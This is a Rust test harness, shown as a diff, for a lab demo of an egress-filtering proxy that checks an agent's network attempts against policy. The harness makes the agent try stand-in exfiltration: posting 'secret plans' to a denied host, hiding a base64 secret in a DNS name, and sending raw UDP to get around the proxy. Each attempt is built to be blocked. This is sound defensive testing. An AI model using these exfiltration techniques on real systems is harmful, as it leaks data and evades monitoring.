@@ -1,0 +1,293 @@
+//! What the demo's agent tries, and how it is judged: by the origin, the DNS server and the capture.
+
+use std::net::IpAddr;
+
+use anyhow::Result;
+use serde_json::{Value, json};
+
+use super::{AGENT, Attempt};
+use crate::lab::wiring::address;
+use crate::lab::{Daemon, Lab, Outcome};
+
+const SSN: &str = "536-22-8741";
+const MAIL: &str = "jane.doe@example.com";
+
+pub(super) fn all(lab: &Lab, daemon: &Daemon) -> Result<Vec<Attempt>> {
+    Ok(vec![
+        allowed(lab)?,
+        denied_host(lab)?,
+        redacted(lab)?,
+        refused_udp(lab)?,
+        refused_name(lab)?,
+        shadowed(lab, daemon)?,
+        approval(lab)?,
+        audit(lab, daemon)?,
+    ])
+}
+
+/// An HTTP answer as curl prints it with `-w`.
+struct Answer {
+    status: String,
+    content_type: String,
+    body: String,
+}
+
+fn curl(lab: &Lab, arguments: &[&str]) -> Result<Answer> {
+    let mut command = vec![
+        "curl",
+        "-sS",
+        "--max-time",
+        "15",
+        "-w",
+        "\n%{http_code} %{content_type}",
+    ];
+    command.extend(arguments);
+    let outcome = lab.agent(AGENT).run(&command)?;
+    lab.settle()?;
+    let (body, last) = outcome.stdout.rsplit_once('\n').unwrap_or(("", ""));
+    let (status, content_type) = last.split_once(' ').unwrap_or((last, ""));
+    let body = if outcome.ok() {
+        body.to_owned()
+    } else {
+        format!("{body}{}", outcome.stderr)
+    };
+    Ok(Answer {
+        status: status.to_owned(),
+        content_type: content_type.to_owned(),
+        body,
+    })
+}
+
+impl Answer {
+    fn problem(&self) -> Value {
+        serde_json::from_str(&self.body).unwrap_or(Value::Null)
+    }
+
+    fn is_denial(&self) -> bool {
+        self.status == "403" && self.content_type.starts_with("application/problem+json")
+    }
+
+    fn summary(&self) -> String {
+        match self.problem() {
+            Value::Object(problem) => {
+                let reason = problem
+                    .get("reason")
+                    .and_then(Value::as_str)
+                    .unwrap_or_default();
+                format!("{} {}: {reason}", self.status, self.content_type)
+            }
+            _ => format!("{} {}", self.status, self.body.trim()),
+        }
+    }
+}
+
+/// Packets that went to an address, whatever they carried.
+fn packets_to(lab: &Lab, host: &str) -> usize {
+    let (v4, v6) = address(host);
+    let addresses = [IpAddr::V4(v4), IpAddr::V6(v6)];
+    lab.internet
+        .capture
+        .matching(|packet| addresses.contains(&packet.destination))
+        .len()
+}
+
+fn allowed(lab: &Lab) -> Result<Attempt> {
+    let answer = curl(lab, &["https://api.allowed.test/hello"])?;
+    let seen = lab.internet.requests.at("api.allowed.test");
+    let kept = answer.status == "200"
+        && answer.body.starts_with("hello from api.allowed.test")
+        && seen.len() == 1;
+    let outside = seen.first().map_or("nothing".to_owned(), |request| {
+        format!(
+            "origin: {} {} over {}, SNI {}",
+            request.method,
+            request.path,
+            protocol(request.alpn.as_deref()),
+            request.authority
+        )
+    });
+    Ok(Attempt {
+        tried: "curl https://api.allowed.test/hello".to_owned(),
+        got: answer.summary(),
+        outside,
+        kept,
+    })
+}
+
+fn protocol(alpn: Option<&str>) -> &str {
+    alpn.unwrap_or("plain HTTP")
+}
+
+/// The address is given to curl, so that the refusal is the proxy's and not only the name server's.
+fn denied_host(lab: &Lab) -> Result<Attempt> {
+    let resolve = format!("denied.test:443:{}", address("denied.test").0);
+    let answer = curl(
+        lab,
+        &[
+            "--resolve",
+            &resolve,
+            "https://denied.test/upload",
+            "-d",
+            "secret plans",
+        ],
+    )?;
+    let packets = packets_to(lab, "denied.test");
+    let kept = answer.is_denial() && answer.problem().get("decision_id").is_some() && packets == 0;
+    Ok(Attempt {
+        tried: "curl https://denied.test/upload -d 'secret plans'  (its own address for it)"
+            .to_owned(),
+        got: answer.summary(),
+        outside: format!("{packets} packets to that host"),
+        kept,
+    })
+}
+
+fn redacted(lab: &Lab) -> Result<Attempt> {
+    let sent = json!({"note": format!("SSN {SSN}, mail {MAIL}"), "amount": 12}).to_string();
+    let program = format!(
+        "import urllib.request\n\
+         request = urllib.request.Request('https://api.allowed.test/echo', data={sent:?}.encode(), \
+         headers={{'content-type': 'application/json'}})\n\
+         answer = urllib.request.urlopen(request, timeout=15)\n\
+         print(answer.status)"
+    );
+    let outcome = lab.agent(AGENT).python(&program)?;
+    let seen = lab
+        .internet
+        .requests
+        .at("api.allowed.test")
+        .pop()
+        .unwrap_or_default();
+    let text = seen.text();
+    let received: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
+    let masked = received.get("note") == Some(&json!("SSN [SSN], mail [EMAIL]"));
+    let clean =
+        !text.contains(SSN) && !text.contains(MAIL) && received.get("amount") == Some(&json!(12));
+    Ok(Attempt {
+        tried: format!("Python POSTs {sent}"),
+        got: last_line(&outcome),
+        outside: format!("origin received {text}"),
+        kept: outcome.ok() && masked && clean && seen.method == "POST" && seen.complete,
+    })
+}
+
+fn refused_udp(lab: &Lab) -> Result<Attempt> {
+    // The first byte of a QUIC long header, so that it looks like what a browser would send.
+    let program = format!(
+        "import socket\n\
+         for family, to in ((socket.AF_INET, '{}'), (socket.AF_INET6, '{}')):\n\
+         \x20   s = socket.socket(family, socket.SOCK_DGRAM)\n\
+         \x20   try:\n\
+         \x20       s.sendto(b'\\xc3\\x00\\x00\\x00\\x01demo-quic-marker' + bytes(1180), (to, 443)); print('sent')\n\
+         \x20   except OSError as error:\n\
+         \x20       print(error)",
+        address("api.allowed.test").0,
+        address("api.allowed.test").1
+    );
+    let outcome = lab.agent(AGENT).python(&program)?;
+    lab.settle()?;
+    let packets = lab
+        .internet
+        .capture
+        .matching(|packet| packet.contains(b"demo-quic-marker"))
+        .len();
+    let refused = outcome.stdout.lines().count() == 2 && !outcome.stdout.contains("sent");
+    Ok(Attempt {
+        tried: "Python sends QUIC datagrams straight to UDP/443 of an allowed host, IPv4 and IPv6"
+            .to_owned(),
+        got: last_line(&outcome),
+        outside: format!("{packets} packets"),
+        kept: packets == 0 && refused,
+    })
+}
+
+fn refused_name(lab: &Lab) -> Result<Attempt> {
+    let name = "c2VjcmV0.exfil.denied.test";
+    let outcome = lab
+        .agent(AGENT)
+        .python(&format!("import socket\nsocket.getaddrinfo('{name}', 443)"))?;
+    lab.settle()?;
+    let queries = lab.internet.queries.count("exfil");
+    let packets = lab
+        .internet
+        .capture
+        .matching(|packet| packet.contains(b"exfil"))
+        .len();
+    Ok(Attempt {
+        tried: format!("Python looks up {name}  (a secret in a name)"),
+        got: last_line(&outcome),
+        outside: format!("{queries} queries at the DNS server, {packets} packets"),
+        kept: !outcome.ok() && queries == 0 && packets == 0,
+    })
+}
+
+fn shadowed(lab: &Lab, daemon: &Daemon) -> Result<Attempt> {
+    let answer = curl(lab, &["https://shadow.allowed.test/hello"])?;
+    let seen = lab.internet.requests.at("shadow.allowed.test").len();
+    let record = daemon.record(|record| {
+        field(record, "host") == "shadow.allowed.test" && field(record, "path") == "/hello"
+    })?;
+    let would = format!(
+        "recorded: {} in mode {}",
+        field(&record, "decision"),
+        field(&record, "mode")
+    );
+    Ok(Attempt {
+        tried: "curl https://shadow.allowed.test/hello  (a rule in shadow mode)".to_owned(),
+        got: format!("{}; {would}", answer.summary()),
+        outside: format!("origin: {seen} request"),
+        kept: answer.status == "200"
+            && seen == 1
+            && field(&record, "decision") == "deny"
+            && field(&record, "mode") == "shadow",
+    })
+}
+
+fn approval(lab: &Lab) -> Result<Attempt> {
+    let url = "https://payments.allowed.test/v1/charges";
+    let headers = [
+        "-H",
+        "content-type: application/json",
+        "-d",
+        r#"{"amount": 9000}"#,
+        url,
+    ];
+    let answer = curl(lab, &headers)?;
+    let seen = lab.internet.requests.at("payments.allowed.test").len();
+    let problem = answer.problem();
+    let id = problem
+        .get("approval_id")
+        .and_then(Value::as_str)
+        .unwrap_or_default();
+    Ok(Attempt {
+        tried: format!(r#"curl {url} -d '{{"amount": 9000}}'  (the limit is 5000)"#),
+        got: format!("{}, approval_id {id}", answer.summary()),
+        outside: format!("origin: {seen} requests"),
+        kept: answer.is_denial() && !id.is_empty() && seen == 0,
+    })
+}
+
+fn audit(lab: &Lab, daemon: &Daemon) -> Result<Attempt> {
+    let records = daemon.records()?.len();
+    let outcome = lab.ctl(&["audit", "verify"])?;
+    Ok(Attempt {
+        tried: "nothing: the operator runs aegisctl audit verify".to_owned(),
+        got: last_line(&outcome),
+        outside: format!("{records} records, one for each decision above"),
+        kept: outcome.ok() && records >= 6,
+    })
+}
+
+fn field<'a>(record: &'a Value, name: &str) -> &'a str {
+    record.get(name).and_then(Value::as_str).unwrap_or_default()
+}
+
+/// What a person would look at: the last line that was written.
+fn last_line(outcome: &Outcome) -> String {
+    let text = if outcome.stdout.trim().is_empty() {
+        &outcome.stderr
+    } else {
+        &outcome.stdout
+    };
+    text.trim().lines().last().unwrap_or_default().to_owned()
+}
